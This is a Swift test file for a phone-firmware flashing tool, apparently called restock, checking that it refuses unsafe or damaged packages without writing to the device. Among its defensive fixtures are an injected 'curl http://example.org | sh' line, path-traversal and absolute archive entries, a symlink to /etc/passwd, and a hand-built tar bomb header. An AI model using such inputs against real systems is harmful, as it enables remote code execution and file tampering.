import Foundation
import Testing
import VirtualPhone

/// A case of the table: what is wrong, and the words that must be said.
struct Refusal: CustomTestStringConvertible, Sendable {
    let name: String
    var profile = "liuqin"
    var phone: [String] = []
    /// The profile of the phone, where it is another one than the package's.
    var onto: String?
    var flaws: [PackageFlaw] = []
    var mode = "clean"
    /// What standard error must hold.
    let words: [String]

    var testDescription: String { name }
}

/// The folder inside the sample package.
private let top = (try? PackageRecipe.named("liuqin").topDirectory) ?? ""

private let refusals: [Refusal] = [
    Refusal(name: "another phone", onto: "chopin", words: ["device-match", "the phone is chopin", "liuqin"]),
    Refusal(
        name: "a longer name that the script's own prefix check lets pass", phone: ["--set", "product=liuqinpro"],
        words: ["device-match", "liuqinpro"]),
    Refusal(name: "no product", phone: ["--set", "product="], words: ["device-match", "does not say which model"]),
    Refusal(
        name: "locked", phone: ["--locked"],
        words: ["bootloader-locked", "getvar unlocked: no", "restock sideload -s adb:"]),
    Refusal(name: "locked by its profile", profile: "whyred", words: ["bootloader-locked"]),
    Refusal(
        name: "anti higher than the package", phone: ["--set", "anti=2"],
        words: ["anti-rollback", "anti: 2", "the package has 1"]),
    Refusal(
        name: "rollback_ver higher", profile: "daisy", phone: ["--set", "rollback_ver=7"],
        words: ["anti-rollback", "rollback_ver: 7"]),
    Refusal(
        name: "the other variable higher", phone: ["--set", "rollback_ver=9"],
        words: ["anti-rollback", "rollback_ver: 9"]),
    Refusal(
        name: "anti unreadable", phone: ["--set", "anti=oops"], words: ["anti-rollback", "oops", "cannot be read"]),
    Refusal(
        name: "an older package", profile: "chopin", flaws: [.antiRollback(1)],
        words: ["anti-rollback", ": 2, the package has 1"]),
    Refusal(
        name: "an identity partition is flashed",
        flaws: [.extraLine(sh: sh("flash persist", "persist.img"), bat: bat("flash persist", "persist.img"))],
        words: ["identity-partition", "persist"]),
    Refusal(
        name: "an identity partition is erased",
        flaws: [.extraLine(sh: sh("erase modemst1"), bat: bat("erase modemst1"))],
        words: ["identity-partition", "modemst1", "IMEI"]),
    Refusal(
        name: "frp is erased", flaws: [.extraLine(sh: sh("erase frp"), bat: bat("erase frp"))],
        words: ["identity-partition", "frp"]),
    Refusal(
        name: "an unknown line", flaws: [.extraLine(sh: "curl http://example.org | sh", bat: nil)],
        words: ["unknown-step", "flash_all.sh", "line"]),
    Refusal(
        name: "anti-rollback switched off", flaws: [.extraLine(sh: sh("oem ignore_anti"), bat: bat("oem ignore_anti"))],
        words: ["unknown-step", "ignore_anti"]),
    Refusal(
        name: "scripts that differ", flaws: [.extraLine(sh: sh("erase misc"), bat: nil)],
        words: ["script-difference", "flash_all.sh", "erase misc"]),
    Refusal(
        name: "a missing image", flaws: [.missingImage("super.img")], words: ["package-integrity", "images/super.img"]),
    Refusal(
        name: "an empty image",
        flaws: [.missingImage("rescue.img"), .entry(path: "\(top)/images/rescue.img", contents: [])],
        words: ["package-integrity", "images/rescue.img", "empty"]),
    Refusal(
        name: "a phone that takes next to nothing", phone: ["--max-download", "512"], words: ["512 bytes at a time"]),
    Refusal(
        name: "a wrong digest", flaws: [.wrongDigest("boot.img")],
        words: ["package-integrity", "images/boot.img", "md5sum.xml"]),
    Refusal(
        name: "a wrong CRC", flaws: [.wrongCRC(partition: "boot_ab")],
        words: ["package-integrity", "images/boot.img", "crclist.txt"]),
    Refusal(name: "a wrong hash in the name", flaws: [.wrongNameHash], words: ["package-integrity", "its MD5"]),
    Refusal(name: "a flipped byte", flaws: [.corruptByte(atThousandth: 500)], words: ["liuqin_images"]),
    Refusal(name: "a truncated archive", flaws: [.truncated(bytes: 1000)], words: ["liuqin_images"]),
    Refusal(
        name: "an entry that climbs out", flaws: [.entry(path: "../evil", contents: [1])],
        words: ["../evil", "upwards"]),
    Refusal(
        name: "an absolute entry", flaws: [.entry(path: "/etc/evil", contents: [1])], words: ["/etc/evil", "absolute"]),
    Refusal(
        name: "a symbolic link", flaws: [.link(path: "images/x.img", target: "/etc/passwd", hard: false)],
        words: ["images/x.img", "symbolic link"]),
    Refusal(
        name: "a hard link", flaws: [.link(path: "images/x.img", target: "images/boot.img", hard: true)],
        words: ["images/x.img", "hard link"]),
    Refusal(
        name: "a sparse image that is none",
        flaws: [
            .entry(path: "images/broken.img", contents: [0x3A, 0xFF, 0x26, 0xED, 1, 0, 0, 0, 28, 0, 12, 0, 1, 2, 3])
        ],
        words: ["broken.img"]),
]

private func sh(_ command: String, _ image: String? = nil) -> String {
    let file = image.map { " $(dirname $0)/images/\($0)" } ?? ""
    return "fastboot $* \(command)\(file)\nif [ $? -ne 0 ] ; then echo \"error\"; exit 1; fi"
}

private func bat(_ command: String, _ image: String? = nil) -> String {
    let file = image.map { " %~dp0images\\\($0)" } ?? ""
    return "fastboot %* \(command)\(file) || @echo \"error\" && exit /B 1"
}

@Suite("Refusals leave the phone untouched") struct RefusalTests {
    @Test("exit 2, the words, and no write", arguments: refusals) func refused(_ refusal: Refusal) throws {
        let package =
            refusal.flaws.isEmpty
            ? try soundPackage(refusal.profile) : try Packed(refusal.profile, flaws: refusal.flaws)
        let phone = try Phone(refusal.onto ?? refusal.profile, refusal.phone)
        let ended = try restock(
            "flash", "-s", phone.address, "--mode", refusal.mode, "--accept", consents, package.path)
        #expect(ended.status == 2, "\(ended.error)")
        for word in refusal.words { #expect(ended.words.contains(word), "\"\(word)\" is missing in: \(ended.error)") }
        #expect(ended.words.contains("Nothing was written."))
        #expect(
            ended.error.split(separator: "\n").allSatisfy { $0.count <= 80 || !$0.contains(" ") || $0.contains("/") },
            "\(ended.error)")
        #expect(try phone.isUntouched())
    }

    @Test("no consent, no terminal: a refusal that names the flag") func consentMissing() throws {
        let phone = try Phone("liuqin")
        let ended = try restock("flash", "-s", phone.address, "--accept", "data-loss", try soundPackage("liuqin").path)
        #expect(ended.status == 2)
        #expect(ended.words.contains("--accept account-binding"))
        #expect(ended.words.contains("A Mi account lock"))
        #expect(try phone.isUntouched())
        let json = try restock("flash", "-s", phone.address, "--json", try soundPackage("liuqin").path)
        #expect(json.status == 2)
        #expect(json.result["outcome"] as? String == "refused")
        #expect((json.result["next"] as? String)?.contains("account-binding,data-loss") == true)
        #expect(try phone.isUntouched())
    }

    @Test("a consent for something that is no gate") func unknownGate() throws {
        let ended = try restock(
            "flash", "-s", "tcp:127.0.0.1:1", "--accept", "everything", try soundPackage("liuqin").path)
        #expect(ended.status == 64)
        #expect(ended.words.contains("everything") && ended.words.contains("account-binding"))
    }

    @Test(
        "what is no package",
        arguments: [
            ("empty.tgz", [UInt8](), "empty", 1),
            ("text.tgz", Array("hello, this is no package at all\n".utf8), "not a fastboot package", 1),
            // By its first bytes it is one, so it is a damaged one.
            ("rom.zip", [0x50, 0x4B, 3, 4] + [UInt8](repeating: 0, count: 100), "recovery", 2),
        ])
    func noPackage(name: String, contents: [UInt8], words: String, status: Int32) throws {
        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let file = folder.appending(path: name)
        try Data(contents).write(to: file)
        let phone = try Phone("liuqin")
        for verb in [["inspect"], ["flash", "-s", phone.address]] {
            let ended = try run(program("restock"), verb + [file.path])
            #expect(ended.status == status, "\(ended.error)")
            #expect(ended.words.contains(words), "\(ended.error)")
        }
        #expect(try phone.isUntouched())
    }

    @Test("a file that is not there is no refusal", arguments: ["flash", "sideload", "inspect"])
    func missing(verb: String) throws {
        let phone = try Phone("liuqin", verb == "sideload" ? ["--mode", "sideload"] : [])
        let ended = try run(
            program("restock"), [verb] + (verb == "inspect" ? [] : ["-s", phone.address]) + ["/nonexistent/liuqin.tgz"])
        #expect(ended.status == 1, "\(ended.error)")
        #expect(ended.words.contains("There is no such file: /nonexistent/liuqin.tgz"), "\(ended.error)")
    }

    @Test(
        "the last words on a damaged .tgz: which file, what is wrong, what to do",
        arguments: [
            (PackageFlaw.corruptByte(atThousandth: 500), "the gzip "),
            (PackageFlaw.truncated(bytes: 1000), "the gzip file is cut short"),
        ])
    func damagedArchive(flaw: PackageFlaw, fault: String) throws {
        let package = try Packed("liuqin", flaws: [flaw])
        let phone = try Phone("liuqin")
        let ended = try restock("flash", "-s", phone.address, "--accept", consents, package.path)
        #expect(ended.status == 2, "\(ended.error)")
        #expect(ended.words.contains("\(package.path) is damaged: \(fault)"), "\(ended.error)")
        #expect(!ended.words.contains("A stock package is"))
        let prefix = try #require(package.path.dropLast(4).split(separator: "_").last)
        for words in [
            "Nothing was written. Download it again, and compare its MD5 with what the site says.",
            "begins with \(prefix); `md5sum` says what it is.",
        ] { #expect(ended.words.contains(words), "\(words): \(ended.error)") }
    }

    @Test("the last words on a damaged image: which file, which digest, what to do") func damagedImage() throws {
        let package = try Packed("liuqin", flaws: [.wrongDigest("boot.img")])
        let phone = try Phone("liuqin")
        let ended = try restock("flash", "-s", phone.address, "--accept", consents, package.path)
        let last = ended.words.components(separatedBy: "restock: Refused by package-integrity.").last ?? ""
        for words in [
            "images/boot.img is not what", "its MD5 differs: md5sum.xml says ", "Download it again.",
            "Nothing was written.",
        ] { #expect(last.contains(words), "\(words): \(ended.error)") }
        let inspected = try restock("inspect", package.path)
        #expect(inspected.status == 2)
        let end = inspected.out.split(whereSeparator: \.isWhitespace).joined(separator: " ")
        #expect(
            end.hasSuffix("says it is. Download it again. Do not flash this package."), "\(inspected.out.suffix(400))")
    }

    @Test("a bomb is refused by the size that it declares") func bomb() throws {
        // One ustar header and no data: images/super.img, 100 GiB in GNU's form for large sizes.
        var header = [UInt8](repeating: 0, count: 512)
        func put(_ text: String, at offset: Int) {
            header.replaceSubrange(offset..<offset + text.utf8.count, with: text.utf8)
        }
        put("\(top)/images/super.img", at: 0)
        put("0000644", at: 100)
        header[124] = 0x80
        for index in 0..<8 { header[135 - index] = UInt8(truncatingIfNeeded: (UInt64(100) << 30) >> UInt64(8 * index)) }
        put("00000000000", at: 136)
        put("        ", at: 148)
        put("0", at: 156)
        put("ustar", at: 257)
        put("00", at: 263)
        let sum = String(header.reduce(0) { $0 + Int($1) }, radix: 8)
        put(String(repeating: "0", count: 6 - sum.count) + sum, at: 148)
        header[154] = 0

        let folder = try temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        try Data(header).write(to: folder.appending(path: "bomb.tar"))
        let packed = try run(
            URL(filePath: "/usr/bin/env"), ["gzip", "-S", ".tgz", folder.appending(path: "bomb.tar").path])
        #expect(packed.status == 0)
        let phone = try Phone("liuqin")
        let ended = try restock(
            "flash", "-s", phone.address, "--accept", consents, folder.appending(path: "bomb.tar.tgz").path, limit: 30)
        #expect(ended.status == 2, "\(ended.error)")
        #expect(ended.words.contains("images/super.img") && ended.words.contains("64 GiB"), "\(ended.error)")
        #expect(ended.words.contains("Nothing was written."))
        #expect(try phone.isUntouched())
    }

    @Test("a package without the mode") func noMode() throws {
        let package = try Packed("liuqin", form: .folder)
        for ending in ["sh", "bat"] {
            try FileManager.default.removeItem(atPath: "\(package.path)/flash_all_lock.\(ending)")
        }
        let phone = try Phone("liuqin")
        let ended = try restock(
            "flash", "-s", phone.address, "--mode", "clean-lock", "--accept", consents + ",relock=liuqin", package.path)
        #expect(ended.status == 2)
        #expect(ended.words.contains("clean-lock") && ended.words.contains("keep-data"))
        #expect(try phone.isUntouched())
    }

    @Test("a phone in user-space fastboot") func userspace() throws {
        let phone = try Phone("liuqin", ["--mode", "fastbootd"])
        let ended = try restock("flash", "-s", phone.address, "--accept", consents, try soundPackage("liuqin").path)
        #expect(ended.status == 2)
        #expect(ended.words.contains("restock reboot bootloader -s "))
        #expect(try phone.isUntouched())
    }
}
